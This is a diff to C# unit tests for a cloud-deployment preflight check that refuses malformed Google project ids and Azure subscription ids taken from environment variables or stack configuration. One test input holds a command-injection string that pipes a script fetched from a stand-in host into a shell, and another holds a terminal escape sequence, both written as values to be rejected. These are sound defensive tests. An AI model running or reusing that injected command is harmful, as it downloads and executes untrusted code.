@@ -138,13 +138,14 @@ public sealed class StackPreflightTests
     public void The_subscription_is_the_stacks_else_the_providers_environment_variable()
     {
         var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-abs", "cloud": "abs", "location": "westeurope", "resourceGroup": "rg-rec" }"""));
-        var environment = new Dictionary<string, string> { [StackPreflight.AzureSubscriptionVariable] = "from-environment" };
-        var config = new Dictionary<string, string> { [ConfigKeys.AzureSubscriptionId] = "from-stack" };
+        const string FromStack = "00000000-0000-4000-8000-00000000000a", FromEnvironment = "00000000-0000-4000-8000-00000000000b";
+        var environment = new Dictionary<string, string> { [StackPreflight.AzureSubscriptionVariable] = FromEnvironment };
+        var config = new Dictionary<string, string> { [ConfigKeys.AzureSubscriptionId] = FromStack };
 
         var fromStack = Assert.IsType<AzurePreflightTarget>(Assert.Single(StackPreflight.Targets(plan, config.GetValueOrDefault, environment.GetValueOrDefault)));
         var fromEnvironment = Assert.IsType<AzurePreflightTarget>(Assert.Single(StackPreflight.Targets(plan, _ => null, environment.GetValueOrDefault)));
 
-        Assert.Equal(("from-stack", "from-environment"), (fromStack.SubscriptionId, fromEnvironment.SubscriptionId));
+        Assert.Equal((FromStack, FromEnvironment), (fromStack.SubscriptionId, fromEnvironment.SubscriptionId));
         // An empty variable names no subscription, as the provider reads it.
         Assert.Null(StackPreflight.AzureSubscription(_ => null, _ => ""));
     }
@@ -162,6 +163,35 @@ public sealed class StackPreflightTests
 
         Assert.Equal(("from-stack", "second"), (fromStack.Project, fromEnvironment.Project));
         Assert.Equal("storages[0].project", Assert.Single(error.Problems).Field);
+    }
+
+    /// <summary>The provider's fallback reaches requests and the fixes' commands as the stack's setting does, and is held to the same rule.</summary>
+    [Theory]
+    [InlineData("GOOGLE_PROJECT", "Bad Project!", "The environment variable GOOGLE_PROJECT, which the provider reads where the stack sets no gcp:project, is \"Bad Project!\", not a project id (6 to 30 lowercase letters, digits and hyphens, starting with a letter): set it to the project's id, as `gcloud projects list` shows it, or set gcp:project in the stack.")]
+    [InlineData(StackPreflight.AzureSubscriptionVariable, "x; curl evil.sh|sh #", "The environment variable ARM_SUBSCRIPTION_ID, which the provider reads where the stack sets no azure-native:subscriptionId, is \"x; curl evil.sh|sh #\", not a subscription id")]
+    [InlineData(StackPreflight.AzureSubscriptionVariable, "00000000-0000-4000-8000-00000000000a\u001b[2J", "The environment variable ARM_SUBSCRIPTION_ID, which the provider reads where the stack sets no azure-native:subscriptionId, contains U+001B at position 37")]
+    public void A_project_or_subscription_from_the_environment_not_of_its_clouds_form_is_refused_naming_the_variable(string variable, string value, string message)
+    {
+        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-gcs", "cloud": "gcs", "location": "EU" }, { "name": "rec-abs", "cloud": "abs", "location": "westeurope", "resourceGroup": "rg-rec" }"""));
+        var environment = new Dictionary<string, string> { ["GOOGLE_PROJECT"] = "acme-video", [StackPreflight.AzureSubscriptionVariable] = "00000000-0000-4000-8000-00000000000a", [variable] = value };
+
+        var refused = Assert.Throws<StackConfigException>(() => StackPreflight.Targets(plan, _ => null, environment.GetValueOrDefault));
+
+        Assert.StartsWith(message, refused.Message, StringComparison.Ordinal);
+        Assert.DoesNotContain('\u001b', refused.Message);
+    }
+
+    [Fact]
+    public void A_subscription_the_programs_configuration_gives_not_as_a_guid_is_refused_on_its_key()
+    {
+        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-abs", "cloud": "abs", "location": "westeurope", "resourceGroup": "rg-rec" }"""));
+        var config = new Dictionary<string, string> { [ConfigKeys.AzureSubscriptionId] = "/subscriptions/00000000-0000-4000-8000-00000000000a" };
+
+        var refused = Assert.Throws<StackConfigException>(() => StackPreflight.Targets(plan, config.GetValueOrDefault, _ => null));
+
+        var problem = Assert.Single(refused.Problems);
+        Assert.Equal(ConfigKeys.AzureSubscriptionId, problem.Field);
+        Assert.Contains("not a subscription id", problem.Message, StringComparison.Ordinal);
     }
     [Fact]
     public void The_creates_that_send_tags_send_the_stacks_over_the_aws_providers_default_tags()
